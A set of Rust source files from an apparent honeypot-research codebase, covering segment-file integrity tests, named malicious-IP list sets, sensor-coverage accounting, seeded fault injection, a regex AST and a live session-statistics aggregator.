        let recs: Vec<SessionRecord> = (0..500).map(rec).collect();
        for r in &recs {
            w.push(r);
        }
        let meta = w.finish().unwrap();
        assert_eq!(meta.rows, 500);
        let r = SegmentReader::open(&path).unwrap();
        assert_eq!(r.meta().rows, 500);
        let got = r.read_all().unwrap();
        assert_eq!(got, recs);
    }

    #[test]
    fn zone_map_reflects_start_range() {
        let dir = tmpdir("zonemap");
        let path = dir.join("seg-000000.hsdb");
        let mut w = SegmentWriter::create(&path);
        for i in 0..10 {
            w.push(&rec(i));
        }
        let meta = w.finish().unwrap();
        let lo = Date::new(2022, 3, 1).at_midnight();
        assert_eq!(meta.min_start, Some(lo));
        assert_eq!(meta.max_start, Some(lo.plus_secs(9 * 3600)));
        assert!(meta.overlaps(lo.plus_secs(3600), lo.plus_secs(7200)));
        assert!(!meta.overlaps(lo.plus_secs(-7200), lo.plus_secs(-3600)));
        // Half-open boundaries: a window ending exactly at min_start holds
        // nothing from this segment, one starting exactly at max_start does.
        assert!(!meta.overlaps(lo.plus_secs(-3600), lo));
        assert!(meta.overlaps(lo.plus_secs(9 * 3600), lo.plus_secs(10 * 3600)));
    }

    #[test]
    fn empty_segment_roundtrips() {
        let dir = tmpdir("empty");
        let path = dir.join("seg-000000.hsdb");
        let meta = SegmentWriter::create(&path).finish().unwrap();
        assert_eq!(meta.rows, 0);
        assert_eq!(meta.min_start, None);
        let r = SegmentReader::open(&path).unwrap();
        assert!(r.read_all().unwrap().is_empty());
    }

    #[test]
    fn truncation_is_a_structured_error() {
        let dir = tmpdir("trunc");
        let path = dir.join("seg-000000.hsdb");
        let mut w = SegmentWriter::create(&path);
        for i in 0..50 {
            w.push(&rec(i));
        }
        w.finish().unwrap();
        let bytes = std::fs::read(&path).unwrap();
        for keep in [bytes.len() - 1, bytes.len() / 2, 10, 0] {
            std::fs::write(&path, &bytes[..keep]).unwrap();
            let err = SegmentReader::open(&path).expect_err("truncated must fail");
            assert!(
                matches!(
                    err,
                    SessionDbError::Corrupt { .. } | SessionDbError::BadMagic { .. }
                ),
                "keep={keep}: {err}"
            );
        }
    }

    #[test]
    fn bit_flips_are_structured_errors() {
        let dir = tmpdir("flip");
        let path = dir.join("seg-000000.hsdb");
        let mut w = SegmentWriter::create(&path);
        for i in 0..50 {
            w.push(&rec(i));
        }
        w.finish().unwrap();
        let clean = std::fs::read(&path).unwrap();
        // Flip one bit at a spread of offsets covering header, dictionary,
        // rows and footer. Every flip must yield Err, never a panic; a
        // flipped *header/footer* magic yields BadMagic/Corrupt, flipped
        // payload bytes trip the block CRCs.
        let step = (clean.len() / 97).max(1);
        for off in (0..clean.len()).step_by(step) {
            let mut bytes = clean.clone();
            bytes[off] ^= 0x20;
            std::fs::write(&path, &bytes).unwrap();
            let result = SegmentReader::open(&path).and_then(|r| r.read_all());
            assert!(result.is_err(), "bit flip at {off} went undetected");
        }
    }

    #[test]
    fn wrong_version_is_rejected() {
        let dir = tmpdir("version");
        let path = dir.join("seg-000000.hsdb");
        let mut w = SegmentWriter::create(&path);
        w.push(&rec(1));
        w.finish().unwrap();
        let mut bytes = std::fs::read(&path).unwrap();
        bytes[4] = 99;
        std::fs::write(&path, &bytes).unwrap();
        assert!(matches!(
            SegmentReader::open(&path),
            Err(SessionDbError::BadVersion { found: 99, .. })
        ));
    }
}
