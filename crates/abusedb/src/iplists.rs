//! Named malicious-IP lists (Killnet proxy list, C2 daily feed, …).
//!
//! The paper's §9 case study correlates `mdrfckr` client IPs against the
//! Killnet proxy blocklist (988 overlapping IPs) and a C2 feed. Lists here
//! are plain named sets; the botnet generator decides membership so the
//! documented overlaps emerge from the data rather than being asserted.

use netsim::Ipv4Addr;
use std::collections::HashSet;

/// A named set of IPs.
#[derive(Debug, Clone, Default)]
pub struct IpList {
    name: String,
    ips: HashSet<Ipv4Addr>,
}

impl IpList {
    /// An empty list with a display name, e.g. `"KillNet DDoS Blocklist"`.
    pub fn new(name: &str) -> Self {
        Self {
            name: name.to_string(),
            ips: HashSet::new(),
        }
    }

    /// List name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Adds an address.
    pub fn add(&mut self, ip: Ipv4Addr) {
        self.ips.insert(ip);
    }

    /// Membership test.
    pub fn contains(&self, ip: Ipv4Addr) -> bool {
        self.ips.contains(&ip)
    }

    /// Number of addresses.
    pub fn len(&self) -> usize {
        self.ips.len()
    }

    /// Whether the list is empty.
    pub fn is_empty(&self) -> bool {
        self.ips.is_empty()
    }

    /// Iterates over members (unordered).
    pub fn iter(&self) -> impl Iterator<Item = &Ipv4Addr> {
        self.ips.iter()
    }

    /// Size of the intersection with an arbitrary IP collection — the
    /// paper's overlap statistic.
    pub fn overlap_count<'a, I: IntoIterator<Item = &'a Ipv4Addr>>(&self, other: I) -> usize {
        other.into_iter().filter(|ip| self.ips.contains(ip)).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ip(n: u32) -> Ipv4Addr {
        Ipv4Addr(n)
    }

    #[test]
    fn basic_membership() {
        let mut l = IpList::new("KillNet DDoS Blocklist");
        assert!(l.is_empty());
        l.add(ip(1));
        l.add(ip(2));
        l.add(ip(2)); // idempotent
        assert_eq!(l.len(), 2);
        assert!(l.contains(ip(1)));
        assert!(!l.contains(ip(3)));
        assert_eq!(l.name(), "KillNet DDoS Blocklist");
    }

    #[test]
    fn overlap_counting() {
        let mut l = IpList::new("C2-Daily");
        for n in 0..100 {
            l.add(ip(n));
        }
        let probe: Vec<Ipv4Addr> = (50..150).map(ip).collect();
        assert_eq!(l.overlap_count(probe.iter()), 50);
    }
}
