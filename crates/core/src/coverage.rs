//! Coverage accounting: how much of the fleet was actually observing.
//!
//! The paper's honeynet was not up continuously — a documented 48-hour
//! fleet-wide maintenance window (2023-10-08/09) plus whatever per-sensor
//! outages a degraded deployment accumulates. Every figure that plots
//! activity over calendar time conflates "the attackers went quiet" with
//! "we were not looking". This module computes *observed sensor-days* from
//! the generator's [`OutageSchedule`] so figures can carry coverage
//! annotations and dip detection can distinguish behavioural collapses
//! from measurement gaps.

use honeypot::OutageSchedule;
use hutil::{Date, Month};

/// Months with an observed-coverage fraction below this are flagged as
/// coverage gaps in annotated figures. 0.999 flags the 48 h maintenance
/// window (≈ 0.998 of October 2023) without tripping on rounding.
pub const COVERAGE_GAP_THRESHOLD: f64 = 0.999;

/// Daily fleet down-fractions over the schedule's span.
#[derive(Debug, Clone)]
pub struct CoverageCalendar {
    start: Date,
    /// `down[i]` = fraction of sensor-seconds lost on `start + i` days.
    down: Vec<f64>,
}

impl CoverageCalendar {
    /// Computes the calendar from a schedule (O(days × windows)).
    pub fn from_schedule(sched: &OutageSchedule) -> Self {
        let start = sched.span_start();
        let n_days = sched.span_end().days_since(start) + 1;
        let denom = (sched.n_sensors() as i64 * 86_400) as f64;
        let down = (0..n_days)
            .map(|i| sched.down_sensor_secs(start.plus_days(i)) as f64 / denom)
            .collect();
        Self { start, down }
    }

    /// First day covered by the calendar.
    pub fn start(&self) -> Date {
        self.start
    }

    /// Number of days covered.
    pub fn n_days(&self) -> usize {
        self.down.len()
    }

    /// Fraction of sensor-time lost on `day` (0 outside the span).
    pub fn down_frac(&self, day: Date) -> f64 {
        let i = day.days_since(self.start);
        if i < 0 {
            return 0.0;
        }
        self.down.get(i as usize).copied().unwrap_or(0.0)
    }

    /// Fraction of sensor-time observing on `day`.
    pub fn observed_frac(&self, day: Date) -> f64 {
        1.0 - self.down_frac(day)
    }

    /// Mean down-fraction over `[start, end]` inclusive.
    pub fn mean_down_frac(&self, start: Date, end: Date) -> f64 {
        let days = end.days_since(start) + 1;
        if days <= 0 {
            return 0.0;
        }
        let sum: f64 = (0..days).map(|i| self.down_frac(start.plus_days(i))).sum();
        sum / days as f64
    }

    /// Days on which the *entire* fleet was effectively dark (≥ 99 % of
    /// sensor-time lost) — the days a timeline shows as zero regardless of
    /// attacker behaviour.
    pub fn dark_days(&self) -> Vec<Date> {
        self.down
            .iter()
            .enumerate()
            .filter(|(_, f)| **f >= 0.99)
            .map(|(i, _)| self.start.plus_days(i as i64))
            .collect()
    }
}

/// Observed vs. possible sensor-days per month.
#[derive(Debug, Clone)]
pub struct MonthlyCoverage {
    /// Months in order over the calendar span.
    pub months: Vec<Month>,
    /// Sensor-days actually observing, per month.
    pub observed_sensor_days: Vec<f64>,
    /// Sensor-days the calendar spans, per month.
    pub total_sensor_days: Vec<f64>,
}

impl MonthlyCoverage {
    /// Aggregates a daily calendar into months. `n_sensors` scales the
    /// fractions back into sensor-days.
    pub fn from_calendar(cal: &CoverageCalendar, n_sensors: usize) -> Self {
        let mut months = Vec::new();
        let mut observed = Vec::new();
        let mut total = Vec::new();
        for i in 0..cal.n_days() {
            let day = cal.start.plus_days(i as i64);
            let m = day.month_of();
            if months.last() != Some(&m) {
                months.push(m);
                observed.push(0.0);
                total.push(0.0);
            }
            let last = observed.len() - 1;
            observed[last] += cal.observed_frac(day) * n_sensors as f64;
            total[last] += n_sensors as f64;
        }
        Self {
            months,
            observed_sensor_days: observed,
            total_sensor_days: total,
        }
    }

    /// Observed fraction for month index `mi`.
    pub fn fraction(&self, mi: usize) -> f64 {
        if self.total_sensor_days[mi] <= 0.0 {
            return 1.0;
        }
        self.observed_sensor_days[mi] / self.total_sensor_days[mi]
    }

    /// Whether month `mi` is a coverage gap under `threshold`.
    pub fn flagged(&self, mi: usize, threshold: f64) -> bool {
        self.fraction(mi) < threshold
    }

    /// Index of `month`, if in range.
    pub fn index_of(&self, month: Month) -> Option<usize> {
        self.months.iter().position(|m| *m == month)
    }

    /// All months flagged under [`COVERAGE_GAP_THRESHOLD`].
    pub fn gap_months(&self) -> Vec<Month> {
        (0..self.months.len())
            .filter(|&i| self.flagged(i, COVERAGE_GAP_THRESHOLD))
            .map(|i| self.months[i])
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeypot::{OutageConfig, OutageSchedule};

    fn maintenance_cal() -> (CoverageCalendar, usize) {
        let sched =
            OutageSchedule::maintenance_only(10, Date::new(2023, 9, 1), Date::new(2023, 11, 30));
        (CoverageCalendar::from_schedule(&sched), 10)
    }

    #[test]
    fn maintenance_days_are_dark() {
        let (cal, _) = maintenance_cal();
        assert_eq!(
            cal.dark_days(),
            vec![Date::new(2023, 10, 8), Date::new(2023, 10, 9)]
        );
        assert!(cal.down_frac(Date::new(2023, 10, 8)) > 0.999);
        assert_eq!(cal.down_frac(Date::new(2023, 10, 10)), 0.0);
        assert_eq!(cal.observed_frac(Date::new(2023, 9, 15)), 1.0);
    }

    #[test]
    fn monthly_coverage_flags_only_october() {
        let (cal, n) = maintenance_cal();
        let mc = MonthlyCoverage::from_calendar(&cal, n);
        assert_eq!(mc.months.len(), 3);
        assert_eq!(mc.gap_months(), vec![Month::new(2023, 10)]);
        let oct = mc.index_of(Month::new(2023, 10)).unwrap();
        // 2 of 31 days lost ⇒ 29/31 observed.
        let expect = 29.0 / 31.0;
        assert!(
            (mc.fraction(oct) - expect).abs() < 1e-6,
            "{}",
            mc.fraction(oct)
        );
        assert!(mc.flagged(oct, COVERAGE_GAP_THRESHOLD));
        let sep = mc.index_of(Month::new(2023, 9)).unwrap();
        assert!(!mc.flagged(sep, COVERAGE_GAP_THRESHOLD));
    }

    #[test]
    fn mean_down_frac_windows() {
        let (cal, _) = maintenance_cal();
        let m = cal.mean_down_frac(Date::new(2023, 10, 7), Date::new(2023, 10, 10));
        assert!((m - 0.5).abs() < 1e-6, "mean {m}");
        assert_eq!(
            cal.mean_down_frac(Date::new(2023, 9, 1), Date::new(2023, 9, 30)),
            0.0
        );
    }

    #[test]
    fn degraded_schedule_loses_coverage_broadly() {
        let sched = OutageSchedule::seeded(
            &OutageConfig::degraded(),
            20,
            Date::new(2023, 1, 1),
            Date::new(2023, 12, 31),
            99,
        );
        let cal = CoverageCalendar::from_schedule(&sched);
        let mc = MonthlyCoverage::from_calendar(&cal, 20);
        // Every month loses ≥ a few percent; October also has maintenance.
        for mi in 0..mc.months.len() {
            assert!(
                mc.flagged(mi, COVERAGE_GAP_THRESHOLD),
                "month {:?}",
                mc.months[mi]
            );
            assert!(mc.fraction(mi) > 0.5, "month {:?} too dark", mc.months[mi]);
        }
    }
}
