//! Seeded fault-injection primitives.
//!
//! The substrate-level building blocks for degraded-mode simulation:
//! renewal-process outage sampling (a link or host alternates between up
//! and down periods with exponential holding times), Bernoulli failure
//! injection for individual operations (e.g. a collector flush), and the
//! exponential-backoff delay schedule used when retrying failed
//! operations. All randomness is explicitly seeded; a sampler given the
//! same seed produces the same fault timeline on every run, which lets the
//! pipeline's degraded-mode tests assert exact accounting identities.
//!
//! These primitives are time-base-agnostic (plain seconds); the
//! `honeypot::outage` module binds them to the study calendar.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Draws from an exponential distribution with the given mean via
/// inversion sampling. A zero or negative mean collapses to zero.
pub fn exp_sample(mean_secs: f64, rng: &mut StdRng) -> f64 {
    if mean_secs <= 0.0 {
        return 0.0;
    }
    let u: f64 = rng.random();
    // u ∈ [0,1) ⇒ 1-u ∈ (0,1], so ln() is finite and non-positive.
    -mean_secs * (1.0 - u).ln()
}

/// An alternating up/down renewal process: up periods with mean
/// `mean_up_secs`, down periods with mean `mean_down_secs`, both
/// exponentially distributed. The long-run unavailability is
/// `mean_down / (mean_up + mean_down)`.
#[derive(Debug, Clone, Copy)]
pub struct OutageSampler {
    /// Mean length of an up period, in seconds.
    pub mean_up_secs: f64,
    /// Mean length of a down period, in seconds.
    pub mean_down_secs: f64,
}

impl OutageSampler {
    /// A sampler targeting a long-run down fraction with a given mean
    /// outage length. `down_frac` must lie in `(0, 1)`.
    pub fn from_downtime(down_frac: f64, mean_down_secs: f64) -> Self {
        assert!(down_frac > 0.0 && down_frac < 1.0, "down_frac out of (0,1)");
        Self {
            mean_up_secs: mean_down_secs * (1.0 - down_frac) / down_frac,
            mean_down_secs,
        }
    }

    /// Samples the down windows falling within `[0, horizon_secs)`,
    /// returned as half-open `(start, end)` second offsets, sorted and
    /// non-overlapping. Windows are clipped to the horizon; zero-length
    /// windows are suppressed.
    pub fn sample_windows(&self, horizon_secs: u64, rng: &mut StdRng) -> Vec<(u64, u64)> {
        let mut out = Vec::new();
        if self.mean_down_secs <= 0.0 || horizon_secs == 0 {
            return out;
        }
        let mut t = 0.0f64;
        let horizon = horizon_secs as f64;
        loop {
            t += exp_sample(self.mean_up_secs, rng);
            if t >= horizon {
                break;
            }
            let down = exp_sample(self.mean_down_secs, rng).max(1.0);
            let start = t as u64;
            let end = ((t + down) as u64).min(horizon_secs);
            if end > start {
                out.push((start, end));
            }
            t += down;
        }
        out
    }
}

/// Bernoulli failure injection for individual operations. With rate 0 the
/// injector never fires and never consumes randomness, so a fault-free
/// configuration is bit-identical to a build without the injector.
#[derive(Debug)]
pub struct FailureInjector {
    rate: f64,
    rng: StdRng,
}

impl FailureInjector {
    /// A new injector firing with probability `rate` per call.
    pub fn new(rate: f64, seed: u64) -> Self {
        Self {
            rate,
            rng: StdRng::seed_from_u64(seed),
        }
    }

    /// The configured failure rate.
    pub fn rate(&self) -> f64 {
        self.rate
    }

    /// Whether the next operation fails.
    pub fn fires(&mut self) -> bool {
        self.rate > 0.0 && self.rng.random::<f64>() < self.rate
    }
}

/// Exponential-backoff delay before retry `attempt` (1-based): `base *
/// 2^(attempt-1)`, capped at `cap`. Attempt 0 means "no failure yet" and
/// yields no delay. The unit is caller-defined (seconds, flush passes, …).
pub fn backoff_delay(base: u64, attempt: u32, cap: u64) -> u64 {
    if attempt == 0 {
        return 0;
    }
    let shift = (attempt - 1).min(32);
    base.saturating_mul(1u64 << shift).min(cap)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exp_sample_matches_mean_roughly() {
        let mut rng = StdRng::seed_from_u64(1);
        let n = 20_000;
        let sum: f64 = (0..n).map(|_| exp_sample(100.0, &mut rng)).sum();
        let mean = sum / n as f64;
        assert!((90.0..110.0).contains(&mean), "mean {mean}");
    }

    #[test]
    fn sampler_hits_downtime_target() {
        let s = OutageSampler::from_downtime(0.10, 12.0 * 3600.0);
        let horizon = 1000 * 86_400u64;
        let mut rng = StdRng::seed_from_u64(7);
        let windows = s.sample_windows(horizon, &mut rng);
        assert!(!windows.is_empty());
        let down: u64 = windows.iter().map(|(a, b)| b - a).sum();
        let frac = down as f64 / horizon as f64;
        assert!((0.05..0.16).contains(&frac), "down fraction {frac}");
        // Sorted, non-overlapping, clipped.
        for w in windows.windows(2) {
            assert!(w[0].1 <= w[1].0);
        }
        assert!(windows.last().unwrap().1 <= horizon);
    }

    #[test]
    fn sampler_is_deterministic() {
        let s = OutageSampler::from_downtime(0.2, 3600.0);
        let a = s.sample_windows(86_400 * 30, &mut StdRng::seed_from_u64(3));
        let b = s.sample_windows(86_400 * 30, &mut StdRng::seed_from_u64(3));
        assert_eq!(a, b);
    }

    #[test]
    fn zero_rate_injector_never_fires() {
        let mut inj = FailureInjector::new(0.0, 9);
        assert!((0..1000).all(|_| !inj.fires()));
    }

    #[test]
    fn injector_fires_at_roughly_its_rate() {
        let mut inj = FailureInjector::new(0.25, 9);
        let fired = (0..10_000).filter(|_| inj.fires()).count();
        assert!((2_000..3_000).contains(&fired), "fired {fired}");
    }

    #[test]
    fn backoff_doubles_and_caps() {
        assert_eq!(backoff_delay(1, 0, 100), 0);
        assert_eq!(backoff_delay(1, 1, 100), 1);
        assert_eq!(backoff_delay(1, 2, 100), 2);
        assert_eq!(backoff_delay(1, 5, 100), 16);
        assert_eq!(backoff_delay(1, 20, 100), 100);
        // The shift saturates at 32 doublings before the cap applies.
        assert_eq!(backoff_delay(3, 40, u64::MAX), 3 << 32);
    }
}
