//! Foundation utilities shared by every honeylab crate.
//!
//! The reproduction deliberately avoids external crates beyond the allowed
//! set, so a handful of small, well-specified primitives live here:
//!
//! * [`sha256`] — FIPS 180-4 SHA-256, used to fingerprint files dropped on
//!   the honeypot (the honeynet stores hashes, never file bodies).
//! * [`base64`] — RFC 4648 codec, needed to decode the `mdrfckr` actor's
//!   base64-encoded payload scripts (paper §9).
//! * [`crc32`] — IEEE CRC-32, the per-block integrity checksum of the
//!   `sessiondb` on-disk segment format.
//! * [`date`] — proleptic-Gregorian civil-date arithmetic without any
//!   ambient-clock access; the simulation clock is always explicit.
//! * [`json`] — a minimal RFC 8259 codec for Cowrie-format log interop
//!   (`serde_json` is outside the allowed dependency set).
//! * [`stats`] — quantiles, box-plot summaries and ratio helpers backing the
//!   figure generators.
//! * [`rng`] — deterministic seed-splitting so every subsystem draws from an
//!   independent, reproducible stream.

pub mod base64;
pub mod crc32;
pub mod date;
pub mod json;
pub mod rng;
pub mod sha256;
pub mod stats;

pub use crc32::{crc32, Crc32};
pub use date::{Date, DateTime, Month};
pub use json::{api_envelope, Json, API_VERSION};
pub use sha256::Sha256;
