//! Abstract syntax tree for the supported regex dialect.

/// One item inside a character class `[...]`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ClassItem {
    /// A single byte, e.g. `a`.
    Byte(u8),
    /// An inclusive byte range, e.g. `a-z`.
    Range(u8, u8),
    /// `\d`.
    Digit,
    /// `\D`.
    NotDigit,
    /// `\s`.
    Space,
    /// `\S`.
    NotSpace,
    /// `\w`.
    Word,
    /// `\W`.
    NotWord,
}

impl ClassItem {
    /// Whether `b` is matched by this item.
    pub fn matches(&self, b: u8) -> bool {
        match *self {
            ClassItem::Byte(c) => b == c,
            ClassItem::Range(lo, hi) => (lo..=hi).contains(&b),
            ClassItem::Digit => b.is_ascii_digit(),
            ClassItem::NotDigit => !b.is_ascii_digit(),
            ClassItem::Space => is_space(b),
            ClassItem::NotSpace => !is_space(b),
            ClassItem::Word => is_word(b),
            ClassItem::NotWord => !is_word(b),
        }
    }
}

/// Python `\s`: space, tab, newline, carriage return, form feed, vertical tab.
pub fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c)
}

/// Python (ASCII) `\w`: alphanumerics and underscore.
pub fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Regex AST node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ast {
    /// Matches the empty string.
    Empty,
    /// A literal byte.
    Byte(u8),
    /// `.` — any byte except `\n`.
    AnyByte,
    /// `[...]` / `[^...]`.
    Class {
        negated: bool,
        items: Vec<ClassItem>,
    },
    /// `^`.
    StartAnchor,
    /// `$`.
    EndAnchor,
    /// `\b` (`true`) or `\B` (`false`).
    WordBoundary(bool),
    /// Concatenation of subexpressions.
    Concat(Vec<Ast>),
    /// `a|b|c`.
    Alternate(Vec<Ast>),
    /// Quantified subexpression: `min..=max` repetitions (`max == None` is
    /// unbounded), `greedy == false` for the lazy `?` variants.
    Repeat {
        node: Box<Ast>,
        min: u32,
        max: Option<u32>,
        greedy: bool,
    },
    /// `(…)` / `(?:…)` — grouping only; the engine does not capture.
    Group(Box<Ast>),
    /// `(?=…)` (`positive == true`) or `(?!…)`.
    Lookahead { positive: bool, node: Box<Ast> },
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn class_item_matching() {
        assert!(ClassItem::Byte(b'a').matches(b'a'));
        assert!(!ClassItem::Byte(b'a').matches(b'b'));
        assert!(ClassItem::Range(b'0', b'9').matches(b'5'));
        assert!(!ClassItem::Range(b'0', b'9').matches(b'a'));
        assert!(ClassItem::Digit.matches(b'7'));
        assert!(ClassItem::NotDigit.matches(b'x'));
        assert!(ClassItem::Space.matches(b'\t'));
        assert!(ClassItem::Word.matches(b'_'));
        assert!(ClassItem::NotWord.matches(b'-'));
    }

    #[test]
    fn space_definition_matches_python() {
        for b in [b' ', b'\t', b'\n', b'\r', 0x0b, 0x0c] {
            assert!(is_space(b));
        }
        assert!(!is_space(b'x'));
        assert!(!is_space(0xa0)); // no Unicode spaces in byte mode
    }
}
