//! The live aggregator behind the observability plane.
//!
//! One dedicated thread consumes session-close events from the worker
//! shards (cloned [`SessionRecord`]s over an `mpsc` channel — the same
//! lock-free handoff the accept→shard path uses), folds them into the
//! *same* `honeylab-core` accumulators the post-hoc `analyze` pipeline
//! runs, and periodically publishes an immutable [`ApiSnapshot`] through
//! a [`broadcast::SnapshotCell`]. HTTP workers render endpoints from
//! whatever snapshot is current — they never touch the accumulators, a
//! lock, or any serving thread's state.
//!
//! Because the taxonomy and credential accumulators are the identical
//! types `core::AnalysisBuilder` composes, `/api/stats` totals over a
//! finished run are *equal by construction* to `honeylab analyze` over
//! the spilled store — the acceptance bar for the live plane.
//!
//! Windowed rates (1m / 5m / 1h) come from ring buffers of per-bucket
//! counters: session closes are bucketed by wall-clock second at ingest;
//! admissions and sheds are sampled as deltas of the [`ServeStats`]
//! atomics on each tick, so the accept path needs no modification (and
//! takes no new writes) to be observable.

use crate::broadcast::{EventBus, SnapshotCell, SnapshotPublisher};
use crate::conn::now_unix;
use crate::{ServeStats, StatsSnapshot};
use honeylab_core::logins::{TopPasswords, TopPasswordsAccumulator};
use honeylab_core::taxonomy::{SessionClass, TaxonomyAccumulator, TaxonomyStats};
use honeypot::{Protocol, SessionEndReason, SessionRecord};
use hutil::{api_envelope, Json};
use sessiondb::RecoveryReport;
use std::collections::VecDeque;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, RecvTimeoutError, Sender};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// How many passwords `/api/credentials/top` ranks.
pub const TOP_CREDENTIALS: usize = 10;

/// Publish cadence of the snapshot cell.
pub const PUBLISH_TICK: Duration = Duration::from_millis(250);

/// Events the serving layer feeds the aggregator. Senders are cheap
/// clones of one `mpsc::Sender`; a dead aggregator (channel closed) is
/// invisible to shards — sends just fail silently.
pub enum AggEvent {
    /// A session completed and was handed to the collector; this is a
    /// clone of the very record the store will hold.
    Session(Box<SessionRecord>),
    /// Crash recovery ran while opening the spill store.
    Recovery(RecoveryReport),
}

// --- windowed rings ------------------------------------------------------

/// Per-bucket counters for one ring slot.
#[derive(Debug, Clone, Copy, Default)]
struct Bucket {
    sessions: u64,
    ssh: u64,
    telnet: u64,
    class: [u64; 4],
    admitted: u64,
    shed: u64,
}

impl Bucket {
    fn clear(&mut self) {
        *self = Bucket::default();
    }
}

/// A fixed-width ring of second-aligned buckets. `head` is the absolute
/// bucket index (`now / bucket_secs`) of the newest slot; advancing past
/// stale slots zeroes them, so a quiet window decays to zero without any
/// timer.
#[derive(Debug)]
struct Ring {
    label: &'static str,
    bucket_secs: i64,
    buckets: Vec<Bucket>,
    head: i64,
}

impl Ring {
    fn new(label: &'static str, bucket_secs: i64, slots: usize, now: i64) -> Self {
        Self {
            label,
            bucket_secs,
            buckets: vec![Bucket::default(); slots],
            head: now.div_euclid(bucket_secs),
        }
    }

    fn window_secs(&self) -> i64 {
        self.bucket_secs * self.buckets.len() as i64
    }

    /// Rotates the ring up to `now`, zeroing every skipped slot.
    fn advance(&mut self, now: i64) {
        let target = now.div_euclid(self.bucket_secs);
        let len = self.buckets.len() as i64;
        if target - self.head >= len {
            // Skipped the whole window: cheaper to clear outright.
            self.buckets.iter_mut().for_each(Bucket::clear);
            self.head = target;
            return;
        }
        while self.head < target {
            self.head += 1;
            let slot = (self.head.rem_euclid(len)) as usize;
            self.buckets[slot].clear();
        }
    }

    fn current(&mut self, now: i64) -> &mut Bucket {
        self.advance(now);
        let len = self.buckets.len() as i64;
        let slot = (self.head.rem_euclid(len)) as usize;
        &mut self.buckets[slot]
    }

    /// Aggregates the window as of `now`. `elapsed_secs` is how long the
    /// server has actually been up: a server 10 seconds old with 20
    /// sessions must report 2.0/s in the 1h window, not 20/3600 — the
    /// rate denominator is the *covered* span, capped at the window.
    fn stats(&mut self, now: i64, elapsed_secs: i64) -> WindowStats {
        self.advance(now);
        let mut w = WindowStats {
            label: self.label,
            seconds: self.window_secs() as u64,
            ..WindowStats::default()
        };
        for b in &self.buckets {
            w.sessions += b.sessions;
            w.ssh += b.ssh;
            w.telnet += b.telnet;
            w.scanning += b.class[0];
            w.scouting += b.class[1];
            w.intrusion += b.class[2];
            w.command_execution += b.class[3];
            w.admitted += b.admitted;
            w.shed += b.shed;
        }
        let covered = (self.window_secs().min(elapsed_secs)).max(1);
        w.sessions_per_sec = w.sessions as f64 / covered as f64;
        w
    }
}

fn class_index(class: SessionClass) -> usize {
    match class {
        SessionClass::Scanning => 0,
        SessionClass::Scouting => 1,
        SessionClass::Intrusion => 2,
        SessionClass::CommandExecution => 3,
    }
}

/// Aggregated counters over one ring window, as published in a
/// snapshot.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct WindowStats {
    /// Window label (`"1m"`, `"5m"`, `"1h"`).
    pub label: &'static str,
    /// Window width in seconds.
    pub seconds: u64,
    /// Sessions closed inside the window.
    pub sessions: u64,
    /// SSH subset of `sessions`.
    pub ssh: u64,
    /// Telnet subset of `sessions`.
    pub telnet: u64,
    /// §3.3 class counts (SSH sessions only, like the paper's taxonomy).
    pub scanning: u64,
    /// Scouting count.
    pub scouting: u64,
    /// Intrusion count.
    pub intrusion: u64,
    /// Command-execution count.
    pub command_execution: u64,
    /// Connections admitted inside the window (sampled counter delta).
    pub admitted: u64,
    /// Connections shed (capacity + per-IP) inside the window.
    pub shed: u64,
    /// `sessions / seconds`.
    pub sessions_per_sec: f64,
}

impl WindowStats {
    /// v1 object body for one window.
    pub fn api_json(&self) -> Json {
        Json::obj([
            ("window", Json::str(self.label)),
            ("seconds", Json::u64(self.seconds)),
            ("sessions", Json::u64(self.sessions)),
            ("sessions_per_sec", Json::Num(self.sessions_per_sec)),
            ("ssh", Json::u64(self.ssh)),
            ("telnet", Json::u64(self.telnet)),
            ("scanning", Json::u64(self.scanning)),
            ("scouting", Json::u64(self.scouting)),
            ("intrusion", Json::u64(self.intrusion)),
            ("command_execution", Json::u64(self.command_execution)),
            ("admitted", Json::u64(self.admitted)),
            ("shed", Json::u64(self.shed)),
        ])
    }
}

// --- session summaries ---------------------------------------------------

/// A bounded, dashboard-sized view of one completed session; what
/// `/api/sessions/recent` lists and what an SSE `session` event carries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionSummary {
    /// Record id.
    pub session_id: u64,
    /// `"ssh"` or `"telnet"`.
    pub protocol: &'static str,
    /// §3.3 class label.
    pub class: &'static str,
    /// Dotted-quad client address.
    pub client_ip: String,
    /// Client source port.
    pub client_port: u16,
    /// Session open (unix seconds).
    pub start_unix: i64,
    /// Session close (unix seconds).
    pub end_unix: i64,
    /// `"client_close"` or `"timeout"`.
    pub end_reason: &'static str,
    /// Client version banner, if one was read.
    pub client_version: Option<String>,
    /// Credential attempts.
    pub login_attempts: u64,
    /// Whether any attempt succeeded.
    pub login_succeeded: bool,
    /// Commands executed.
    pub commands: u64,
    /// Download URIs referenced.
    pub uris: u64,
}

impl SessionSummary {
    /// Summarises one record.
    pub fn of(rec: &SessionRecord) -> Self {
        Self {
            session_id: rec.session_id,
            protocol: match rec.protocol {
                Protocol::Ssh => "ssh",
                Protocol::Telnet => "telnet",
            },
            class: SessionClass::of(rec).label(),
            client_ip: rec.client_ip.to_string(),
            client_port: rec.client_port,
            start_unix: rec.start.unix(),
            end_unix: rec.end.unix(),
            end_reason: match rec.end_reason {
                SessionEndReason::ClientClose => "client_close",
                SessionEndReason::Timeout => "timeout",
            },
            client_version: rec.client_version.clone(),
            login_attempts: rec.logins.len() as u64,
            login_succeeded: rec.login_succeeded(),
            commands: rec.commands.len() as u64,
            uris: rec.uris.len() as u64,
        }
    }

    /// v1 object body for one session.
    pub fn api_json(&self) -> Json {
        Json::obj([
            ("session_id", Json::u64(self.session_id)),
